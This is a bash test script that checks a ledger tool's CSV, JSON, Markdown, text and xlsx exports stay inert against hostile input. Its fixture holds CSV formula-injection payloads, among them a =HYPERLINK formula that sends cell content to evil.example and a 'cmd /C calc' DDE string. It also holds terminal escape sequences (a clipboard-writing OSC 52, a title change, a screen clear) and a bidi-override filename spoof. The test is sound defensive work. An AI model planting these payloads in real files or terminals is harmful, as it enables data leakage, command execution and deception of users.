#!/usr/bin/env bash
# Exports are inert (issue 12 §5): a plan whose cells hold C0 and C1 controls, ESC/OSC
# sequences, bidi overrides and formula-like text goes through every output. No control
# character leaves raw in any text output; CSV cells that a spreadsheet would run as formulas
# are written as text; JSON is strict and keeps the exact text; xlsx holds strings, not
# formulas (read back with openpyxl).
set -uo pipefail
cd "$(dirname "$0")/../.."
source scripts/lib/ensure.sh
ensure_pip openpyxl openpyxl
bin="$(swift build --show-bin-path)/taizhang"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export TAIZHANG_STORE="$work/ledger.json" TAIZHANG_NOW=2021-10-15T02:00:00Z TZ=UTC LANG=C.UTF-8 COLUMNS=160

python3 - "$work/hostile.txt" <<'PY'
import sys
ESC, BEL, CSI1, RLO, LRI, PDI = "\x1b", "\x07", "\u009b", "\u202e", "\u2066", "\u2069"
rows = [
    ("1", '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "区市场监管局", "2021年6月底前"),
    ("2", "+1+cmd /C calc!A0 公开权力清单", "区财政局", "2021年3月底前"),
    ("3", "-2+3 公开双随机结果", "@SUM(1+1) 区政务服务数据局", "2021年4月底前"),
    ("4", "公开" + ESC + "]0;owned" + BEL + "标题" + ESC + "[31m红字" + ESC + "[0m 与 " + CSI1 + "31m", "区发展改革局", "2021年5月底前"),
    ("5", "文本反转" + RLO + "gnp.exe" + LRI + "隔离" + PDI + " 与铃声" + BEL + "和\x01\x02\x7f及\x85", "区司法局", "2021年6月底前"),
]
with open(sys.argv[1], "w", encoding="utf-8") as f:
    f.write("花都区测试局2021年政务公开工作要点分工\n")
    f.write("| 序号 | 工作任务 | 责任单位 | 完成时限 |\n")
    f.write("| 一、加强公开 | | | |\n")
    for r in rows:
        f.write("| " + " | ".join(r) + " |\n")
PY
tz() { timeout 60 "$bin" "$@"; }
tz import --year 2021 --code HT21 "$work/hostile.txt" >"$work/out-import.txt" 2>&1 || { echo "FAIL import: $(cat "$work/out-import.txt")"; exit 1; }
tz set HT21-4 --note $'进展\x1b[2J\x1b]52;c;ZXZpbA==\x07清屏' >/dev/null
o="$work/out"
mkdir -p "$o"
asof=(--as-of 2021-12-31)
tz list "${asof[@]}" >"$o/list.txt"
tz list "${asof[@]}" --format json >"$o/list.json"
tz list "${asof[@]}" --format csv >"$o/list.csv"
tz show HT21-4 >"$o/show.txt"
tz show HT21-5 --format json >"$o/show.json" 2>/dev/null || tz show HT21-5 >"$o/show5.txt"
tz history HT21-4 >"$o/history.txt"
tz overdue "${asof[@]}" >"$o/overdue.txt"
tz overdue "${asof[@]}" --by-unit --format md >"$o/overdue.md"
tz overdue "${asof[@]}" --format csv >"$o/overdue.csv"
tz overdue "${asof[@]}" --format json >"$o/overdue.json"
tz report "${asof[@]}" --by unit >"$o/report.txt"
tz report "${asof[@]}" --by unit --format md >"$o/report.md"
tz report "${asof[@]}" --by unit --format csv >"$o/report.csv"
tz report "${asof[@]}" --by unit --format json >"$o/report.json"
tz units >"$o/units.txt"
tz units --format csv >"$o/units.csv"
tz units --format json >"$o/units.json"
tz calendar --month 2021-06 "${asof[@]}" >"$o/calendar.txt"
tz review >"$o/review.txt"
tz export --format csv --out "$o/export.csv" 2>/dev/null
tz export --format json --out "$o/export.json" 2>/dev/null
tz export --format md --out "$o/export.md" 2>/dev/null
tz export --format xlsx --out "$work/export.xlsx" 2>/dev/null

python3 - "$o" "$work/export.xlsx" <<'PY'
import csv, glob, io, json, os, re, sys
import openpyxl
out, xlsx = sys.argv[1], sys.argv[2]
failed = 0
def check(ok, name):
    global failed
    print(("PASS " if ok else "FAIL ") + name)
    if not ok: failed = 1

raw = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u0080-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
for path in sorted(glob.glob(out + "/*")):
    name = os.path.basename(path)
    text = open(path, encoding="utf-8").read()
    bad = raw.search(text.replace("\r\n", "\n"))
    check(not bad, f"{name}: no raw control character" + (f" (found {bad.group()!r} at {bad.start()})" if bad else ""))
    check(len(text) > 0, f"{name}: not empty")

formula = ("=", "+", "-", "@", "\t", "\r")
for name in ["list.csv", "export.csv", "overdue.csv", "report.csv", "units.csv"]:
    cells = [c for row in csv.reader(io.StringIO(open(f"{out}/{name}", encoding="utf-8-sig").read())) for c in row]
    active = [c for c in cells if c.startswith(formula) and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    check(not active, f"{name}: no cell a spreadsheet would run as a formula {active[:2]}")
export_cells = [c for row in csv.reader(io.StringIO(open(f"{out}/export.csv", encoding="utf-8-sig").read())) for c in row]
check(any(c.startswith("'=HYPERLINK(") for c in export_cells), "export.csv: the HYPERLINK cell is kept, as text")

for name in ["list.json", "overdue.json", "report.json", "units.json", "export.json"]:
    try:
        json.loads(open(f"{out}/{name}", encoding="utf-8").read(), strict=True)
        check(True, f"{name}: strict JSON")
    except ValueError as e:
        check(False, f"{name}: strict JSON ({e})")
texts = [t["text"] for t in json.load(open(f"{out}/list.json", encoding="utf-8"))]
check(any("\x1b]0;owned\x07" in t for t in texts) and any("\u202e" in t for t in texts), "list.json: the exact text survives (escaped, not dropped)")
check("\\u001b" in open(f"{out}/list.json", encoding="utf-8").read(), "list.json: ESC written as \\u001b")
check("^[]0;owned^G" in open(f"{out}/list.txt", encoding="utf-8").read() or "^[" in open(f"{out}/show.txt", encoding="utf-8").read(),
      "terminal output shows ESC as ^[")
check("<U+202E>" in open(f"{out}/export.md", encoding="utf-8").read(), "Markdown shows a bidi override as <U+202E>")

wb = openpyxl.load_workbook(xlsx)
values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
check(all(c.data_type != "f" for c in values), "export.xlsx: no formulas")
check(any(str(c.value).startswith('=HYPERLINK(') and c.data_type == "s" for c in values), "export.xlsx: the HYPERLINK text is a string")
sys.exit(failed)
PY
